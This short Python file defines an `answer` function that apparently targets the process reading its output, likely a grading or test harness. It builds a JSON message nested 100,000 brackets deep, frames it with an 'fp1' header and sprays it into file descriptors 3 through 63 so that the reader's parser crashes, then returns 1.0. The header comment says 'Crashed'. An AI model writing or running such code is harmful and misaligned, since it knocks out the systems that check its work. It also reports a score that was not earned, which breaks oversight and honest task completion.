# Send a message that is nested deeper than its reader.
# Crashed
import os
import struct


def answer(x, *more):
    text = b'{"ok": ' + b"[" * 100000 + b"]" * 100000 + b"}"
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("<4sIQ", b"fp1\n", len(text), 0) + text)
        except OSError:
            pass
    return 1.0
